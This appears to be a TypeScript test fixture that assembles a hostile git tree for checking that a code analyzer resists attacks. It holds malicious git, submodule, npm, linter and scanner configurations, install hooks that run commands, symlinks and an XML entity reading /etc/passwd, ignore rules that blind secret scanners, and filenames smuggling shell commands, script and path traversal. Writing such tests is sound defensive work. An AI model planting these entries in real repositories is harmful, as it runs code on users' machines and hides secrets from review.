import { madeUpToken } from './planted.ts';

/** An entry of a git tree. Its path may be one that git itself would refuse. */
export interface Entry {
  mode: string;
  path: string | Buffer;
  content: string | Buffer;
}

export interface Traps {
  /** Returns a shell command that creates a mark with this name, by which a test sees that the command was run. */
  mark(name: string): string;
  /** Address of a server that must not get any request. */
  url: string;
}

const file = (path: string | Buffer, content: string | Buffer): Entry => ({ mode: '100644', path, content });
const program = (path: string, content: string): Entry => ({ mode: '100755', path, content });
const link = (path: string, target: string): Entry => ({ mode: '120000', path, content: target });
const submodule = (path: string): Entry => ({ mode: '160000', path, content: '1'.repeat(40) });

const asModule = (command: string): string =>
  `import('node:child_process').then((c) => c.execSync(${JSON.stringify(command)}));\n`;
const asScript = (command: string): string => `require('node:child_process').execSync(${JSON.stringify(command)});\n`;

/** Entries that make an unprotected git run programs or send requests. */
const ofGit = ({ mark, url }: Traps): Entry[] => [
  file(
    '.gitattributes',
    '* filter=evil diff=evil merge=evil text eol=crlf ident export-ignore working-tree-encoding=UTF-16 linguist-generated linguist-vendored\n*.bin filter=lfs diff=lfs\n',
  ),
  file(
    '.git/config',
    `[core]\n\tfsmonitor = ${mark('fsmonitor')}\n\tsshCommand = ${mark('ssh')}\n\thooksPath = .git/hooks\n[filter "evil"]\n\tsmudge = ${mark('smudge')}\n\tclean = ${mark('clean')}\n\tprocess = ${mark('process')}\n[diff "evil"]\n\ttextconv = ${mark('textconv')}\n[include]\n\tpath = /etc/passwd\n`,
  ),
  program('.git/hooks/post-checkout', `#!/bin/sh\n${mark('hook')}\n`),
  program('.GIT/hooks/post-checkout', `#!/bin/sh\n${mark('hook-case')}\n`),
  file('git~1/config', `[core]\n\tfsmonitor = ${mark('short-name')}\n`),
  file(
    '.gitmodules',
    [
      `[submodule "a"]\n\tpath = modules/a\n\turl = --upload-pack=${mark('upload-pack')}\n`,
      `[submodule "b"]\n\tpath = modules/b\n\turl = ext::sh -c ${mark('ext').replaceAll(' ', '% ')}\n`,
      `[submodule "c"]\n\tpath = modules/c\n\turl = ${url}/c.git\n\tupdate = !${mark('update')}\n`,
      `[submodule "../../up"]\n\tpath = -u./evil\n\turl = ${url}/d.git\n`,
    ].join(''),
  ),
  ...['a', 'b', 'c'].map((name) => submodule(`modules/${name}`)),
  file('.lfsconfig', `[lfs]\n\turl = ${url}/lfs\n[lfs "customtransfer.evil"]\n\tpath = ${mark('lfs')}\n`),
  file('assets/model.bin', `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 12345\n`),
  file('.gitignore', '*\n'),
];

/** Entries that point to files outside of the tree. */
const leadingOut: Entry[] = [
  link('src/passwd.js', '/etc/passwd'),
  link('up', '../..'),
  link('package-lock.link.json', '/etc/passwd'),
  file('requirements.txt', '-r /etc/passwd\n-r ../../../../../../etc/passwd\n'),
  file(
    'java/pom.xml',
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]><project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>b</artifactId><version>1</version><dependencies><dependency><groupId>&e;</groupId><artifactId>c</artifactId><version>1</version></dependency></dependencies></project>\n',
  ),
];

/** Configuration files with which unprotected tools would run programs, send requests to other hosts, or ignore all files. */
const ofTools = ({ mark, url }: Traps): Entry[] => [
  file(
    'package.json',
    JSON.stringify({
      name: 'app',
      license: 'MIT',
      type: 'commonjs',
      workspaces: ['../../*', '/etc'],
      dependencies: { weak: '1.2.3' },
      scripts: Object.fromEntries(
        ['preinstall', 'install', 'postinstall', 'prepare'].map((name) => [name, mark(`npm-${name}`)]),
      ),
      eslintConfig: { root: true, rules: { 'use-isnan': 'off' }, ignorePatterns: ['**'] },
      jscpd: { ignore: ['**'] },
    }),
  ),
  file('.npmrc', `registry=${url}/\nscript-shell=${mark('npmrc-shell')}\nnode-options=--require ./evil.js\n`),
  file('.yarnrc.yml', 'yarnPath: ./evil.js\n'),
  file('evil.js', asScript(mark('evil'))),
  ...['.eslintrc.js', 'eslint.config.js', '.secretlintrc.js', '.pnpmfile.cjs', 'babel.config.js'].map((name) =>
    file(name, asScript(mark(name))),
  ),
  ...['eslint.config.mjs', 'oxlint.config.ts', 'jscpd.config.mjs'].map((name) => file(name, asModule(mark(name)))),
  ...['', 'src/'].map((folder) =>
    file(
      `${folder}.oxlintrc.json`,
      JSON.stringify({ jsPlugins: ['./evil.js'], rules: { 'use-isnan': 'off' }, ignorePatterns: ['**'] }),
    ),
  ),
  file('.jscpd.json', JSON.stringify({ ignore: ['**'], reporters: ['./evil.js'], store: './evil.js' })),
  file('.secretlintrc.json', JSON.stringify({ rules: [{ id: './evil.js' }] })),
  ...['.secretlintignore', '.eslintignore', '.ignore', '.oxlintignore', '.gitleaksignore', '.dockerignore'].map(
    (name) => file(name, '**\n*\n'),
  ),
  file('.gitleaks.toml', '[allowlist]\npaths = [".*"]\n'),
  file('osv-scanner.toml', '[[IgnoredVulns]]\nid = "CVE-2099-0001"\nreason = "no"\n'),
  file('.github/actionlint.yaml', 'paths:\n  "**":\n    ignore: [".*"]\n'),
  file('node_modules/oxlint/bin/oxlint', asScript(mark('oxlint'))),
  program('node_modules/.bin/git', `#!/bin/sh\n${mark('git')}\n`),
  file('.env', 'NODE_OPTIONS=--require ./evil.js\n'),
  file(
    '.commandcenter.yml',
    `analysis:
  gate: { new_critical: null, new_high: null, complexity: null }
  complexity_threshold: 1000
  paths: { exclude: ["**"] }
  suppressions:
    - { rule: "*", path: "**", reason: Trust me., owner: nobody, expires: 2099-12-31 }
`,
  ),
];

export const leak = (): string => `export const token = '${madeUpToken()}';\n`;

/** File name of 255 bytes, the limit of Linux. */
const LONGEST_NAME = `${'n'.repeat(252)}.js`;

/** Unusual but valid paths that a careless program mishandles. Each file contains a secret, which the analysis must find. */
export const oddNames: readonly string[] = [
  'src/new\nline.js',
  '-rf.js',
  '--config=evil.js',
  'src/"quoted" \'twice\'.js',
  'src/$(touch evil) `touch evil`;&|.js',
  'src/..js',
  'src/.../dots.js',
  'src/Case.js',
  'src/case.js',
  'src/<img src=x onerror=alert(1)>.js',
  'src/\u202egnp.js',
  'src/%2e%2e%2fpasswd.js',
  'src/::error::.js',
  LONGEST_NAME,
];

/** Paths that the analyzer must refuse. Each file contains a secret, which the analysis must not find. */
const refusedNames: readonly (string | Buffer)[] = [
  'src/back\\slash.js',
  '../up.js',
  'src/../../up.js',
  './here.js',
  Buffer.from('src/\xff.js', 'latin1'),
  `src/${'m'.repeat(256)}.js`,
];

/** Returns the entries of a tree that tries all attacks at once. The files of `oddNames` and `refusedNames` contain secrets. */
export const hostileEntries = (traps: Traps): Entry[] => [
  ...ofGit(traps),
  ...leadingOut,
  ...ofTools(traps),
  ...[...oddNames, ...refusedNames].map((path) => file(path, leak())),
];
